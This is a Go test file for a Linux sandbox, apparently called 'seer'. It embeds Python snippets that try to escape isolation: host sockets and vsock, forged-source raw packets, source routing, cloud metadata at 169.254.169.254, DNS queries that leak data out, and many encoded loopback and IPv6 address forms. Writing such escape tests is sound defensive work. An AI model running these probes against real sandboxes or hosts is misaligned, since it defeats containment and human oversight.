//go:build linux

package escape_test

import (
	"fmt"
	"maps"
	"slices"
	"testing"
)

// forms are ways to write an address of the host, as Python expressions.
var forms = map[string]string{
	"loopback":                           `"127.0.0.1"`,
	"another address of loopback":        `"127.1.2.3"`,
	"loopback without zeros":             `"127.1"`,
	"loopback as a number":               `"2130706433"`,
	"loopback in hexadecimal":            `"0x7f.0.0.1"`,
	"loopback in octal":                  `"0177.0.0.1"`,
	"any address":                        `"0.0.0.0"`,
	"the name of loopback":               `"localhost"`,
	"the host as sandboxes call it":      `"host.seer.internal"`,
	"the gateway":                        `"192.168.127.1"`,
	"the address behind the host's name": `"192.168.127.254"`,
	"an address of the host":             `(W["addresses"] or ["127.0.0.1"])[0]`,
	"metadata of a cloud":                `"169.254.169.254"`,
	"broadcast":                          `"255.255.255.255"`,
	"the network's own address":          `"192.168.127.255"`,
}

// sixes are the same in version 6.
var sixes = map[string]string{
	"loopback in version 6":              `"::1"`,
	"loopback mapped into version 6":     `"::ffff:127.0.0.1"`,
	"loopback compatible with version 6": `"::127.0.0.1"`,
	"loopback through NAT64":             `"64:ff9b::7f00:1"`,
	"loopback through 6to4":              `"2002:7f00:1::1"`,
	"loopback through Teredo":            `"2001:0:7f00:1::1"`,
	"the host mapped into version 6":     `"::ffff:" + (W["addresses"] or ["127.0.0.1"])[0]`,
	"the host through NAT64":             `"64:ff9b::" + (W["addresses"] or ["127.0.0.1"])[0]`,
	"metadata mapped into version 6":     `"::ffff:169.254.169.254"`,
	"any address of version 6":           `"::"`,
}

// networkAttempts are ways to the host's services, and out of a sandbox without a network.
func networkAttempts() []attempt {
	all := []attempt{
		{name: "a socket of the host in the file system", python: `reach(socket.AF_UNIX, W["socket"])
`},
		{name: "a socket of the host without a file", python: `reach(socket.AF_UNIX, "\0" + W["abstract"])
`},
		{name: "the host by its virtual socket", python: `
with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM): out("AF_VSOCK is answered")
`},
		{name: "the host by its virtual socket, without a network", owner: func(t *testing.T, w *world) string {
			return w.runPython(t, w.cut, `
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
    def take(k):
        with socket.socket(socket.AF_VSOCK, k) as s:
            s.settimeout(1)
            out("AF_VSOCK is answered")
    each([kind], take)
`)
		}},
		{name: "a message to the host's UDP service", python: `
for host in ("127.0.0.1", "192.168.127.1", "host.seer.internal", "255.255.255.255", *W["addresses"]):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.settimeout(0.3)
        def send(h):
            s.sendto(b"agent", (h, W["udp"]))
            print(s.recv(100))
        each([host], send)
`},
		{name: "multicast", python: `
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(0.3)
    for group in ("224.0.0.1", "224.0.0.251", "239.255.255.250"):
        def send(g):
            s.sendto(b"agent", (g, W["udp"]))
            print(s.recv(100))
        each([group], send)
`},
		{name: "packets with a forged source", python: `
def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
    for source in ("127.0.0.1", "192.168.127.1", "192.168.127.254", "8.8.8.8"):
        for target in ("127.0.0.1", "192.168.127.1", *W["addresses"]):
            data = struct.pack("!HHHH", 9, W["udp"], 13, 0) + b"agent"
            head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), 1, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(target))
            head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
            each([target], lambda h: raw.sendto(head + data, (h, 0)))
`},
		{name: "packets past the kernel", python: `
interface = [n for n in os.listdir("/sys/class/net") if n != "lo"][0]
mac = bytes.fromhex(open(f"/sys/class/net/{interface}/address").read().strip().replace(":", ""))
with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as raw:
    raw.bind((interface, 0))
    for target in ("127.0.0.1", "192.168.127.1", *W["addresses"]):
        data = struct.pack("!HHHH", 9, W["udp"], 13, 0) + b"agent"
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), 1, 0, 64, 17, 0, socket.inet_aton("127.0.0.1"), socket.inet_aton(target))
        total = sum(struct.unpack("!10H", head))
        while total >> 16: total = (total & 0xffff) + (total >> 16)
        head = head[:10] + struct.pack("!H", ~total & 0xffff) + head[12:]
        for to in (b"\xff" * 6, mac): raw.send(to + mac + b"\x08\x00" + head + data)
`},
		{name: "packets through a router of its own choice", python: `
with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
    s.settimeout(1)
    s.setsockopt(socket.IPPROTO_IP, 4, b"\x83\x07\x04" + socket.inet_aton("127.0.0.1") + b"\0")
    s.connect(("192.168.127.1", W["port"]))
    s.sendall(b"GET / HTTP/1.0\r\n\r\n")
    print(s.recv(1000))
`},
		{name: "another address for the sandbox", python: `
for command in (["ip", "addr", "add", "10.1.2.3/24", "dev", "lo"], ["ip", "route", "add", "10.0.0.0/8", "via", "192.168.127.1"], ["ip", "link", "add", "d0", "type", "dummy"], ["ip", "tuntap", "add", "t0", "mode", "tun"], ["iptables", "-L"], ["nft", "list", "ruleset"]):
    each([command], lambda c: out(" ".join(c)) if run(*c).returncode == 0 else None)
`},
		{name: "the neighbour by its tunnel", python: `
for host in ("127.0.0.1", "192.168.127.1", "host.seer.internal", *W["addresses"]):
    each([(host, W["tunnel"])], lambda a: reach(socket.AF_INET, a, b"GET /marker HTTP/1.0\r\n\r\n"))
`},
		{name: "the neighbour by its address", python: `
for last in (1, 2, 3, 254):
    each([(f"192.168.127.{last}", 9000)], lambda a: reach(socket.AF_INET, a, b"GET /marker HTTP/1.0\r\n\r\n", timeout=0.4))
`},
		{name: "the server of sandboxes", python: `
for host in ("127.0.0.1", "192.168.127.1", "host.seer.internal", "192.168.127.254", *W["addresses"]):
    def look(a):
        with socket.create_connection(a, timeout=1) as s: out(f"connected to {a}")
    each([(host, W["server"])], look)
`},
		{name: "names of the host by DNS", python: `
import socket as s
for name in ("localhost", "gateway", "host", "_gateway", "host.docker.internal", "metadata.google.internal", "gateway.seer.internal", "server.seer.internal"):
    def look(n):
        found = {i[4][0] for i in s.getaddrinfo(n, W["port"], s.AF_INET, s.SOCK_STREAM)}
        for address in found: reach(s.AF_INET, (address, W["port"]), timeout=0.5)
    each([name], look)
`},
		{name: "answers of DNS that lead to the host", python: `
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"\x09localhost\x00" + b"\x00\x01\x00\x01"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(2)
    s.sendto(query, ("192.168.127.1", 53))
    answer = s.recv(512)
    reach(socket.AF_INET, ("127.0.0.1", W["port"]))
`},
		{name: "out of a sandbox without a network", owner: func(t *testing.T, w *world) string {
			return w.runPython(t, w.cut, `
for address in (("1.1.1.1", 53), ("8.8.8.8", 443), ("192.168.127.1", 53), ("192.168.127.1", W["port"]), ("127.0.0.1", W["port"]), ("169.254.169.254", 80), *[(a, W["port"]) for a in W["addresses"]]):
    def look(a):
        with socket.create_connection(a, timeout=1): out(f"connected to {a}")
    each([address], look)
`)
		}},
		{name: "a question out of a sandbox without a network", owner: func(t *testing.T, w *world) string {
			return w.runPython(t, w.cut, `
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"\x06secret\x07example\x03com\x00" + b"\x00\x01\x00\x01"
for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
    for host in ("192.168.127.1", "192.168.127.254", "8.8.8.8"):
        def ask(h):
            with socket.socket(socket.AF_INET, kind) as s:
                s.settimeout(0.5)
                s.connect((h, 53))
                s.sendall(query if kind == socket.SOCK_DGRAM else struct.pack("!H", len(query)) + query)
                answer = s.recv(512)
                if answer and answer[3 if kind == socket.SOCK_DGRAM else 5] & 15 in (0, 3): out(f"{h} answers {answer[:16]!r}")
        each([host], ask)
`)
		}},
		{name: "the host's sockets without a network", owner: func(t *testing.T, w *world) string {
			return w.runPython(t, w.cut, `
each([W["socket"], "\0" + W["abstract"]], lambda a: reach(socket.AF_UNIX, a))
`)
		}},
	}
	for _, name := range slices.Sorted(maps.Keys(forms)) {
		all = append(all, attempt{name: name, python: fmt.Sprintf("reach(socket.AF_INET, (socket.getaddrinfo(%s, None, socket.AF_INET)[0][4][0], W[\"port\"]))\n", forms[name])})
	}
	for _, name := range slices.Sorted(maps.Keys(sixes)) {
		all = append(all, attempt{name: name, python: fmt.Sprintf("reach(socket.AF_INET6, (%s, W[\"port\"]))\n", sixes[name])})
	}
	return all
}
